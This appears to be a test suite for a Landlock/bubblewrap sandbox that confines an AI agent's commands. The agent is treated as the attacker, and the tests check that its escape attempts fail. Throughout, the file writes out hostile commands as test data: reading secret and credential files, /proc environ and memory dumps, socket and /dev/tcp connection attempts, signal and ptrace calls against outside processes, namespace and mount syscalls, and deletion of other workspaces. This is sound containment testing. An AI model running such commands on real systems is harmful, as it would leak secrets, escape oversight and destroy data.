import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  existsSync,
  linkSync,
  mkdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  type Gateway,
  type GatewayOptions,
  hasBubblewrap,
  isRoot,
  openGateway,
  plant,
  unlessMissing,
} from "./gateway.ts";

/** The model is the attacker: each attack is one command or tool call, looked at from the outside. */
const walls: readonly (GatewayOptions & { readonly name: string })[] = [
  { name: "Landlock, started by root", as: "root", confine: "landlock" },
  {
    name: "Landlock, by root in a folder of its own",
    as: "root",
    confine: "landlock",
    isOpen: false,
  },
  { name: "Landlock, by an ordinary user", as: "ordinary", confine: "landlock" },
  { name: "bubblewrap, started by root", as: "root", confine: "bubblewrap" },
  { name: "bubblewrap, by an ordinary user", as: "ordinary", confine: "bubblewrap" },
  { name: "Landlock 1, by root", as: "root", confine: "landlock", launchArgs: ["--abi=1"] },
  {
    name: "Landlock 2, by an ordinary user",
    as: "ordinary",
    confine: "landlock",
    launchArgs: ["--abi=2"],
  },
  {
    name: "bubblewrap without Landlock, by root",
    as: "root",
    confine: "bubblewrap",
    launchArgs: ["--abi=0"],
  },
  {
    name: "bubblewrap without Landlock",
    as: "ordinary",
    confine: "bubblewrap",
    launchArgs: ["--abi=0"],
  },
];

const usable = walls.filter(({ as, confine }) => {
  if (confine === "bubblewrap" && !unlessMissing(hasBubblewrap, "bubblewrap is not installed")) {
    return false;
  }
  return as === "ordinary" || isRoot;
});
unlessMissing(isRoot, "what root may start can only be tried by root");

describe.each(usable)("$name", (options) => {
  const canary = `CANARY-${randomBytes(12).toString("hex")}`;
  const { confine, launchArgs = [] } = options;
  const isOldOrdinary = options.as === "ordinary" && launchArgs.includes("--abi=2");
  let gateway: Gateway;
  let secret: string;
  let victim: ChildProcess;
  let listener: Server;
  let visits = 0;
  let port = 0;

  beforeAll(async () => {
    gateway = await openGateway({ ...options, env: { SECRET_TOKEN: canary } });
    secret = plant(gateway, "config.json", canary);
    victim = spawn("sleep", ["600"], isRoot ? { uid: gateway.uid, gid: gateway.uid } : {});
    listener = createServer(() => (visits += 1));
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const address = listener.address();
    port = typeof address === "object" ? (address?.port ?? 0) : 0;
  });
  afterAll(async () => {
    victim.kill("SIGKILL");
    listener.close();
    await gateway.close();
  });

  test("commands run, with what they usually need", async () => {
    const said = await gateway.run(
      [
        "echo one > a.txt && cat a.txt | tr o 0",
        "cat <(echo two)",
        "git init -q repo && cd repo && git config user.email a@b.c && git config user.name n",
        "echo x > f && git add f && git commit -qm first && git log --format=%s",
        "python3 -c 'print(6 * 7)'",
        `"${gateway.node}" -e 'console.log(40 + 3)'`,
        "sleep 5 & kill $! && echo killed own",
        "chmod +x f && stat -c %A f",
        "echo gone > /dev/null; mktemp > /dev/null && echo temporary",
      ].join("\n"),
    );
    expect(said).toContain("0ne");
    expect(said).toContain("two");
    expect(said).toContain("first");
    expect(said).toContain("42");
    expect(said).toContain("43");
    expect(said).toContain("-rwxr-xr-x");
    expect(said).toContain("temporary");
    // Without a scope in the kernel, nothing but the own group may be signalled.
    expect(said.includes("killed own")).toBe(!isOldOrdinary);
  });

  test("it is the one that was asked for", async () => {
    const { text } = await gateway.request({ do: "confinement" }).answer;
    expect(JSON.parse(text)).toMatchObject({ by: confine, runsCommands: true });
  });

  test("without the walls the same attempts succeed", () => {
    const attempts = `cat ${secret}; cat /proc/${gateway.pid}/environ; kill -0 ${victim.pid} && echo SENT; (exec 3<>/dev/tcp/127.0.0.1/${port}) && echo CONNECTED`;
    const user = isRoot ? { uid: gateway.uid, gid: gateway.uid } : {};
    const { stdout } = spawnSync("bash", ["-c", attempts], { encoding: "utf8", ...user });
    expect(stdout).toContain(canary);
    expect(stdout).toContain("SECRET_TOKEN");
    expect(stdout).toContain("SENT");
    expect(stdout).toContain("CONNECTED");
  });

  test("commands cannot read a file outside, whichever way", async () => {
    const said = await gateway.run(
      [
        `cat ${secret}; cat < ${secret}; head -c 99 ../../../outside/config.json`,
        `cp ${secret} copy; ln ${secret} hard; ln -s ${secret} soft; cat copy hard soft`,
        `python3 -c "print(open('${secret}').read())"`,
        `cat /proc/self/root${secret} /proc/1/root${secret} /proc/$PPID/root${secret}`,
        `cat /proc/${gateway.pid}/root${secret} /proc/${gateway.pid}/cwd/${secret}`,
        `tar cf - ${secret} | strings; git hash-object -w ${secret}; find ${gateway.folder} -type f -exec cat {} +`,
        `cd ${gateway.folder}/outside && cat config.json`,
        "cat ../other/private.txt ../*/private.txt",
      ].join("\n"),
    );
    expect(said).not.toContain(canary);
    expect(said).not.toContain("the other space's secret");
    for (const path of ["copy", "hard", "soft", secret, "../../../outside/config.json"]) {
      const { text, failed } = await gateway.call("read_file", { path });
      expect(failed).toBe(true);
      expect(text).not.toContain(canary);
    }
  });

  test("commands cannot change anything outside", async () => {
    const precious = plant(gateway, "precious.txt", "precious");
    const before = statSync(precious);
    const outside = join(gateway.folder, "outside");
    await gateway.run(
      [
        `echo bad > ${precious}; echo bad >> ${precious}; : > ${precious}; rm -f ${precious}`,
        `truncate -s 0 ${precious}; python3 -c "import os; os.truncate('${precious}', 0)"`,
        `touch ${outside}/new; mkdir ${outside}/folder; ln -s /etc ${outside}/link; mv ${precious} .`,
        `mkfifo ${outside}/pipe; cp a.txt ${precious}; python3 -c "import os; os.rename('a.txt', '${precious}')"`,
        "echo bad > ../../AGENTS.md; rm ../../SOUL.md; echo bad > ../../skills/tea/SKILL.md",
        "echo bad > ../other/new.txt; mkdir ../third; rm -rf ../other ../../cron",
        `chown 1 ${precious}; setfattr -n user.a -v b ${precious}`,
      ].join("\n"),
    );
    expect(readFileSync(precious, "utf8")).toBe("precious");
    expect(statSync(precious).uid).toBe(before.uid);
    for (const name of ["new", "folder", "link", "pipe"]) {
      expect(existsSync(join(outside, name))).toBe(false);
    }
    const at = (name: string): string => readFileSync(join(gateway.workspace, name), "utf8");
    expect(at("AGENTS.md")).toBe("Be kind.");
    expect(at("SOUL.md")).toBe("Curious.");
    expect(at("skills/tea/SKILL.md")).toBe("How to make tea.");
    expect(at("cron/daily.md")).toBe("every day");
    expect(at("spaces/other/private.txt")).toBe("the other space's secret");
    expect(existsSync(join(gateway.workspace, "spaces/third"))).toBe(false);
    expect(existsSync(join(gateway.workspace, "spaces/other/new.txt"))).toBe(false);
  });

  test("nothing of another process can be read in /proc", async () => {
    const pid = gateway.pid;
    const said = await gateway.run(
      [
        `for f in environ mem maps cmdline fd cwd root auxv stack syscall; do cat /proc/${pid}/$f; ls -l /proc/${pid}/$f/; done`,
        "cat /proc/1/environ /proc/$PPID/environ /proc/self/environ /proc/*/environ | tr '\\0' '\\n'",
        `python3 -c "open('/proc/${pid}/mem', 'rb').read(1)"`,
        "cat /proc/*/cmdline; ls -l /proc/*/fd /proc/$PPID/fd; cat /dev/fd/5 /proc/self/fd/3",
        "for p in $(seq 1 400); do cat /proc/$p/environ; done",
      ].join("\n"),
    );
    expect(said).not.toContain(canary);
    expect(said).not.toContain("SECRET_TOKEN");
    expect(said).not.toContain("gateway-process.ts");
  });

  test("the environment holds what is listed, and nothing of the gateway's", async () => {
    const said = await gateway.run("env -0 | cut -z -d= -f1 | tr '\\0' ' '");
    const allowed =
      "PATH HOME PWD OLDPWD TMPDIR LANG TERM TZ USER SHELL PAGER SHLVL _ GIT_CONFIG_NOSYSTEM " +
      "GIT_TERMINAL_PROMPT PYTHONDONTWRITEBYTECODE NODE_NO_WARNINGS";
    const names = (said.split("\n")[0] ?? "").trim().split(" ");
    expect(names).toContain("HOME");
    expect(names.filter((name) => !allowed.split(" ").includes(name))).toEqual([]);
  });

  test("no socket of any kind, and nobody is called", async () => {
    const visitsBefore = visits;
    const said = await gateway.run(
      [
        `echo hello > /dev/tcp/127.0.0.1/${port} && echo "CONNECTED"`,
        `curl -s -m 2 http://127.0.0.1:${port}/ && echo "CONNECTED"`,
        `python3 - <<'END'
import socket, ctypes, os
def attempt(label, action):
    try:
        action(); print("OPENED", label)
    except OSError as error:
        print("denied", label)
S = socket.socket
attempt("inet", lambda: S(socket.AF_INET).connect(("127.0.0.1", ${port})))
attempt("inet6", lambda: S(socket.AF_INET6))
attempt("udp", lambda: S(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)))
attempt("raw", lambda: S(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: S(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink", lambda: S(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("vsock", lambda: S(40, socket.SOCK_STREAM))
attempt("unix", lambda: S(socket.AF_UNIX))
attempt("datagram pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
attempt("dns", lambda: socket.getaddrinfo("${canary}.example", 80))
socket.socketpair(); print("stream pair works")
END`,
        `"${gateway.node}" -e 'require("net").connect(${port}, "127.0.0.1").on("connect", () => console.log("CONNECTED")).on("error", (e) => console.log("denied node"))'`,
      ].join("\n"),
    );
    expect(said).not.toContain("CONNECTED");
    expect(said).not.toContain("OPENED");
    expect(said.match(/denied/g)?.length).toBeGreaterThanOrEqual(11);
    expect(said).toContain("stream pair works");
    expect(visits).toBe(visitsBefore);
  });

  test("no signal reaches a process outside, nor the sandbox itself", async () => {
    const server = await gateway.run("echo $PPID");
    const mine = [victim.pid, gateway.pid, process.pid].join(" ");
    const said = await gateway.run(
      [
        `for s in 0 STOP USR1 TERM KILL; do for p in ${mine} $PPID 1; do kill -$s $p && echo SENT $s $p; kill -$s -- -$p && echo SENT -$p; done; done`,
        "kill -9 -1 && echo SENT -1; export SERVER=$PPID",
        `python3 - <<'END'
import ctypes, os, signal, resource
libc = ctypes.CDLL(None, use_errno=True)
arm = os.uname().machine == "aarch64"
number = lambda x86, other: other if arm else x86
victim, gateway, server = ${victim.pid}, ${gateway.pid}, int(os.environ["SERVER"])
def attempt(label, *arguments):
    if libc.syscall(*arguments) >= 0: print("SENT", label)
for pid in (victim, gateway, server):
    attempt("tgkill", number(234, 131), pid, pid, 9)
    attempt("tkill", number(200, 130), pid, 9)
    attempt("pidfd_open", 434, pid, 0)
    attempt("sigqueue", number(129, 138), pid, 9, ctypes.create_string_buffer(128))
    attempt("ptrace", number(101, 117), 16, pid, 0, 0)
    attempt("process_vm_readv", number(310, 270), pid, 0, 0, 0, 0, 0)
    attempt("prlimit", number(302, 261), pid, 0, (ctypes.c_ulong * 2)(0, 0), 0)
    attempt("setpriority", number(141, 140), 0, pid, 19)
    attempt("sched_setaffinity", number(203, 122), pid, 8, (ctypes.c_ulong * 1)(1))
# every thread of the server, by guess: kill() takes a thread's id for its process
for pid in range(server, server + 12):
    if pid in (os.getpid(), os.getppid()): continue
    try:
        os.kill(pid, 0)
        print("SENT near", pid - server)
    except OSError: pass
import fcntl
r, w = os.pipe()
for command in (8, 10, 15):
    try: fcntl.fcntl(r, command, victim); print("SENT by fcntl", command)
    except OSError: pass
END`,
      ].join("\n"),
    );
    expect(said).not.toContain("SENT");
    expect(victim.exitCode ?? victim.signalCode).toBeNull();
    expect(gateway.process.exitCode ?? gateway.process.signalCode).toBeNull();
    // the same server as before
    expect(await gateway.run("echo $PPID")).toBe(server);
  });

  test("the calls that open other ways out are refused", async () => {
    const said = await gateway.run(
      `python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
arm = os.uname().machine == "aarch64"
calls = {
  "memfd_create": (319, 279), "memfd_secret": (447, 447), "unshare": (272, 97), "setns": (308, 268),
  "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "chroot": (161, 51), "bpf": (321, 280),
  "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425), "keyctl": (250, 219),
  "add_key": (248, 217), "open_by_handle_at": (304, 265), "name_to_handle_at": (303, 264), "reboot": (169, 142),
  "kexec_load": (246, 104), "init_module": (175, 105), "finit_module": (313, 273), "swapon": (167, 224),
  "quotactl": (179, 60), "fsopen": (430, 430), "open_tree": (428, 428), "move_mount": (429, 429),
  "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190), "pidfd_getfd": (438, 438), "kcmp": (312, 272),
}
for name, (x86, other) in calls.items():
    ctypes.set_errno(0)
    result = libc.syscall(other if arm else x86, 0, 0, 0, 0, 0, 0)
    print(name, "OPEN" if result >= 0 else ctypes.get_errno())
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000):
    ctypes.set_errno(0)
    result = libc.syscall(220 if arm else 56, flag | 17, 0, 0, 0, 0)
    if result == 0: os._exit(0)
    print("clone", hex(flag), "OPEN" if result > 0 else ctypes.get_errno())
print("clone3", libc.syscall(435, 0, 0), ctypes.get_errno())
END`,
    );
    const lines = said.split("\n").filter((line) => /^[a-z]/.test(line));
    expect(lines.length).toBeGreaterThanOrEqual(37);
    expect(lines.filter((line) => !/ (1|-1 38)$/.test(line))).toEqual([]);
  });

  test("the ordinary tools for it fail, too", async () => {
    const said = await gateway.run(
      [
        "unshare -Ur true && echo OPEN; mount -t tmpfs x . && echo OPEN; chroot . true && echo OPEN",
        "su -c id && echo OPEN; sudo -n id && echo OPEN; mknod dev c 1 3 && echo OPEN; nsenter -t 1 -m true && echo OPEN",
        "cp /bin/true /dev/shm/x && /dev/shm/x && echo OPEN; grep -E '^(CapEff|CapBnd|CapPrm)' /proc/self/status",
        "dmesg && echo OPEN; ls /sys/kernel && echo OPEN; cat /etc/shadow /etc/hostname && echo OPEN; echo end",
      ].join("\n"),
    );
    expect(said).not.toContain("OPEN");
    expect(said).toContain("end");
    for (const match of said.matchAll(/^Cap\w+:\s+(\w+)/gm)) expect(Number(match[1])).toBe(0);
  });

  test("a space reads global and writes it only from main; other spaces are not there", async () => {
    expect(
      await gateway.run("cat ../global/news.txt && echo more >> ../global/news.txt"),
    ).toContain("shared news");
    const inOther = async (command: string): Promise<string> =>
      (await gateway.call("run_command", { command }, "other")).text;
    expect(await inOther("cat private.txt")).toContain("the other space's secret");
    expect(await inOther("cat ../global/news.txt")).toContain("more");
    await inOther("echo bad >> ../global/news.txt; rm ../global/news.txt; touch ../global/x");
    expect(readFileSync(join(gateway.workspace, "spaces/global/news.txt"), "utf8")).toBe(
      "shared newsmore\n",
    );
    expect(existsSync(join(gateway.workspace, "spaces/global/x"))).toBe(false);
    expect(await inOther("ls ../main; cat ../main/a.txt")).not.toContain("one");
  });

  test("persona, skills and cron files can be read", async () => {
    const { text } = await gateway.request({ do: "persona" }).answer;
    expect(text).toBe("Be kind.\n\nCurious.");
    expect(await gateway.run("cat ../../skills/tea/SKILL.md ../../cron/daily.md")).toContain(
      "How to make tea.",
    );
  });

  test("no core file, no descriptor but the three, no terminal", async () => {
    const said = await gateway.run(
      "ulimit -c; python3 -c \"import os\nfor n in range(3, 200):\n  try: os.fstat(n); print('INHERITED', n)\n  except OSError: pass\"; cat; echo typed > /dev/tty; tty",
    );
    expect(said).toMatch(/^0\n/);
    expect(said).not.toContain("INHERITED");
    expect(said).toContain("not a tty");
  });
});

test.runIf(isRoot)(
  "root becomes a user that owns nothing else, another one for each space",
  async () => {
    const gateway = await openGateway({ as: "root", confine: "landlock" });
    const ids = new Set<number>();
    for (const space of ["main", "two", "three"]) {
      const command = "id -u; id -G; echo x > f";
      const { text } = await gateway.call("run_command", { command }, space);
      const { uid } = statSync(join(gateway.workspace, "spaces", space, "f"));
      expect(text).toBe(`${uid}\n${uid}\n[exit code 0]`);
      expect(uid).toBeGreaterThan(60_000);
      ids.add(uid);
    }
    expect(ids.size).toBeGreaterThan(1);
    await gateway.close();
  },
);

test.runIf(isRoot)("a file with a second name elsewhere is not given away", async () => {
  const gateway = await openGateway({ as: "root", confine: "landlock" });
  const outside = plant(gateway, "mine.txt", "mine");
  const space = join(gateway.workspace, "spaces/fresh");
  mkdirSync(space);
  writeFileSync(join(space, "own.txt"), "own");
  linkSync(outside, join(space, "second-name.txt"));
  symlinkSync(outside, join(space, "link.txt"));
  const command = "id -u; stat -c '%u %n' *";
  const { text } = await gateway.call("run_command", { command }, "fresh");
  expect(text).toContain(`${text.split("\n")[0]} own.txt`);
  expect(text).toContain("0 second-name.txt");
  expect(statSync(outside).uid).toBe(0);
  await gateway.close();
});
